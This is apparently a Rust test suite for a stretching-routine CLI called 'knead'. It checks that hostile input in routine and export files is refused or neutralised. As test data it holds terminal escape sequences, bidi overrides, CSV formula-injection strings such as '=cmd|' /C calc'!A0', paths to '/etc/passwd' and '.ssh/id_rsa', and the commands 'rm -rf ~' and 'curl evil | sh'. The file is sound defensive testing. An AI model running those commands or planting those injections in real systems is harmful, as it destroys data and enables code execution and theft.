//! Files written by someone else: a routine from a forum, a client's export. Whatever text they
//! hold is either refused with its line and column or shown as plain text; nothing in them can
//! rewrite the terminal, pass for something else, or run as a spreadsheet formula.

use std::path::Path;

use assert_cmd::Command;

fn knead(home: &Path) -> Command {
    let mut cmd = Command::cargo_bin("knead").expect("binary is built");
    cmd.env("XDG_CONFIG_HOME", home)
        .env("XDG_STATE_HOME", home)
        .env("KNEAD_DATA_DIR", home.join("data"))
        .env("ALSA_CONFIG_PATH", "/dev/null")
        .env_remove("DBUS_SESSION_BUS_ADDRESS")
        .env("NO_COLOR", "1");
    cmd
}

/// A routine with `value` (TOML) as the value of `key`, set in the place it belongs.
fn routine_with(key: &str, value: &str) -> String {
    let mut name = "\"Hostile\"".to_owned();
    let mut safety = "[\"Stop if it tingles.\"]".to_owned();
    let mut region = "\"calf\"".to_owned();
    let mut cue = "\"Lean in.\"".to_owned();
    let mut say = "\"Calf, on the ball.\"".to_owned();
    match key {
        "name" => value.clone_into(&mut name),
        "safety" => safety = format!("[{value}]"),
        "region" => value.clone_into(&mut region),
        "cue" => value.clone_into(&mut cue),
        "say" => value.clone_into(&mut say),
        _ => unreachable!("{key}"),
    }
    format!(
        "name = {name}\nsafety = {safety}\n\n[[step]]\nregion = {region}\ntool = \"ball\"\nhold = \"30s\"\ncue = {cue}\nsay = {say}\n"
    )
}

/// Characters that must never reach the terminal from a file.
fn is_dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}' | '\u{FEFF}')
}

#[test]
fn hostile_text_in_every_field_is_refused_with_its_place_and_never_echoed_raw() {
    let long_word = format!("\"{}\"", "a".repeat(10_000));
    let long_name = format!("\"{}\"", "n".repeat(201));
    // (what it is, TOML value, the message it must give)
    let cases = [
        (
            "ANSI clear screen",
            r#""calf\u001b[2J""#,
            "control character U+001B",
        ),
        (
            "ANSI colour, raw C1 CSI",
            r#""calf\u009b31m""#,
            "control character U+009B",
        ),
        ("bell", r#""calf\u0007""#, "control character U+0007"),
        (
            "carriage return",
            r#""calf\rneck""#,
            "control character U+000D",
        ),
        (
            "right-to-left override",
            r#""calf\u202eflac""#,
            "control character U+202E",
        ),
        (
            "right-to-left isolate",
            r#""calf\u2067x""#,
            "control character U+2067",
        ),
        (
            "zero-width space",
            r#""ca\u200blf""#,
            "invisible character U+200B",
        ),
        (
            "byte order mark inside",
            r#""ca\ufefflf""#,
            "invisible character U+FEFF",
        ),
        (
            "soft hyphen",
            r#""ca\u00adlf""#,
            "invisible character U+00AD",
        ),
        (
            "word joiner",
            r#""ca\u2060lf""#,
            "invisible character U+2060",
        ),
        ("10,000-character word", &long_word, "characters long"),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    for key in ["name", "safety", "region", "cue", "say"] {
        for (what, value, message) in &cases {
            let file = dir.path().join("hostile.toml");
            std::fs::write(&file, routine_with(key, value)).expect("write");
            let output = knead(dir.path())
                .arg("check")
                .arg(&file)
                .output()
                .expect("runs");
            let said = String::from_utf8_lossy(&output.stdout).into_owned()
                + &String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(1), "{key} with {what}: {said}");
            let line = match key {
                "name" => 1,
                "safety" => 2,
                "region" => 5,
                "cue" => 8,
                _ => 9,
            };
            assert!(
                said.contains(&format!("hostile.toml:{line}:")),
                "{key} with {what}: no line {line}: {said}"
            );
            assert!(said.contains(message), "{key} with {what}: {said}");
            assert!(said.contains("help:"), "{key} with {what}: {said}");
            assert!(
                !said.chars().any(is_dangerous),
                "{key} with {what}: raw character in the output: {said:?}"
            );
        }
    }
    // A name longer than a line is refused too (a cue may be longer).
    std::fs::write(
        dir.path().join("long.toml"),
        routine_with("name", &long_name),
    )
    .expect("write");
    let output = knead(dir.path())
        .arg("check")
        .arg(dir.path().join("long.toml"))
        .output()
        .expect("runs");
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stdout).contains("name is 201 characters long"));
}

#[test]
fn raw_hostile_bytes_quoted_in_an_error_are_made_inert() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("raw.toml");
    // A raw ESC in a comment (a TOML error) and a raw right-to-left override in a value.
    std::fs::write(
        &file,
        "name = \"x\u{202E} evil\"  # \u{1b}[2J\u{9b}31m\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"30s\"\n",
    )
    .expect("write");
    let output = knead(dir.path())
        .arg("check")
        .arg(&file)
        .output()
        .expect("runs");
    let said = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{said}");
    assert!(said.contains("raw.toml:1:"), "{said}");
    assert!(!said.chars().any(is_dangerous), "{said:?}");
    assert!(
        said.contains('\u{FFFD}'),
        "shown as replacement characters: {said}"
    );
}

#[test]
fn emoji_wide_scripts_and_joiners_are_welcome_and_shown_as_written() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("emoji.toml");
    std::fs::write(
        &file,
        "name = \"Calf 🦵 release, 小腿\"\n[[step]]\nregion = \"calf 🦵\"\ntool = \"ball\"\nhold = \"1s\"\nprepare = \"0s\"\nrest = \"0s\"\ncue = \"Ask your 👩\u{200D}⚕\u{FE0F} first. می\u{200C}خواهم\"\n",
    )
    .expect("write");
    knead(dir.path()).arg("check").arg(&file).assert().success();
    let output = knead(dir.path())
        .args(["run", "--plain"])
        .arg(&file)
        .write_stdin("\n4\n")
        .output()
        .expect("runs");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("Hold 1/1: calf 🦵, 1 s"), "{said}");
    assert!(
        said.contains("Ask your 👩\u{200D}⚕\u{FE0F} first."),
        "{said}"
    );
}

#[test]
fn exported_csv_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("formula.toml");
    std::fs::write(
        &file,
        "name = \"=HYPERLINK(\\\"http://x\\\",\\\"open\\\")\"\n[defaults]\nhold = \"1s\"\nprepare = \"0s\"\nrest = \"0s\"\n\
         [[step]]\nregion = \"+SUM(A1:A9)\"\ntool = \"@ball\"\n\
         [[step]]\nregion = \"-2+3\"\ntool = \"=cmd|' /C calc'!A0\"\n",
    )
    .expect("write");
    let run = knead(dir.path())
        .args(["run", "--plain"])
        .arg(&file)
        .write_stdin("\n3\n4\n")
        .output()
        .expect("runs");
    assert!(run.status.success());
    let export = knead(dir.path())
        .args(["export", "--format", "csv"])
        .output()
        .expect("runs");
    assert!(export.status.success());
    let mut reader = csv::Reader::from_reader(export.stdout.as_slice());
    let mut cells = 0;
    for record in reader.records() {
        for cell in &record.expect("csv row") {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "formula-like cell {cell:?}"
            );
            cells += usize::from(cell.starts_with('\''));
        }
    }
    // Name on both rows, both regions and both tools: six neutralised cells, text kept.
    assert_eq!(cells, 6);
    let text = String::from_utf8_lossy(&export.stdout);
    assert!(
        text.contains("'+SUM(A1:A9)") && text.contains("'-2+3"),
        "{text}"
    );
}

#[test]
fn an_export_holding_terminal_escapes_is_refused_and_imports_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("mine.toml");
    std::fs::write(
        &file,
        "name = \"Mine\"\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"1s\"\nprepare = \"0s\"\nrest = \"0s\"\n",
    )
    .expect("write");
    knead(dir.path())
        .args(["run", "--plain"])
        .arg(&file)
        .write_stdin("\n4\n")
        .assert()
        .success();
    let export = knead(dir.path())
        .args(["export", "--format", "json"])
        .output()
        .expect("runs");
    let clean = String::from_utf8(export.stdout).expect("utf-8");
    let therapist = tempfile::tempdir().expect("tempdir");
    for (what, from, to) in [
        ("escape", "\"calf\"", "\"calf\\u001b]0;owned\\u0007\""),
        ("override", "\"calf\"", "\"calf\\u202e\""),
        ("rating off the scale", "\"rating\": 4", "\"rating\": 40"),
        (
            "time that is not a time",
            "\"session_started\": \"",
            "\"session_started\": \"yesterday",
        ),
    ] {
        assert!(clean.contains(from), "{what}: {clean}");
        let hostile = therapist.path().join("client.json");
        std::fs::write(&hostile, clean.replacen(from, to, 1)).expect("write");
        let output = knead(therapist.path())
            .arg("import")
            .arg(&hostile)
            .args(["--client", "Ann"])
            .output()
            .expect("runs");
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{what}: {said}");
        assert!(said.contains("hold 1:"), "{what}: {said}");
        assert!(!said.chars().any(is_dangerous), "{what}: {said:?}");
    }
    let export = knead(therapist.path())
        .args(["export", "--format", "csv", "--client", "Ann"])
        .output()
        .expect("runs");
    // Nothing imported: there is no client of that name at all.
    assert_eq!(export.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&export.stderr).contains("no client named \"Ann\""),
        "{}",
        String::from_utf8_lossy(&export.stderr)
    );
}

#[test]
fn a_routine_cannot_name_a_file_or_a_program() {
    let dir = tempfile::tempdir().expect("tempdir");
    for (key, value) in [
        ("sound", "\"/etc/passwd\""),
        ("include", "\"../../.ssh/id_rsa\""),
        ("command", "\"rm -rf ~\""),
        ("exec", "[\"sh\", \"-c\", \"curl evil | sh\"]"),
    ] {
        for place in ["top", "step"] {
            let text = if place == "top" {
                format!(
                    "name = \"x\"\n{key} = {value}\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"30s\"\n"
                )
            } else {
                format!(
                    "name = \"x\"\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"30s\"\n{key} = {value}\n"
                )
            };
            let file = dir.path().join("paths.toml");
            std::fs::write(&file, text).expect("write");
            let output = knead(dir.path())
                .arg("check")
                .arg(&file)
                .output()
                .expect("runs");
            let said = String::from_utf8_lossy(&output.stdout);
            assert_eq!(output.status.code(), Some(1), "{key} at {place}: {said}");
            assert!(
                said.contains(&format!("unknown key \"{key}\"")),
                "{key} at {place}: {said}"
            );
        }
    }
    // The schema editors use says the same: no key beyond the documented ones.
    let schema: serde_json::Value = serde_json::from_slice(
        &knead(dir.path())
            .arg("schema")
            .output()
            .expect("runs")
            .stdout,
    )
    .expect("json");
    assert_eq!(schema["additionalProperties"], false);
}
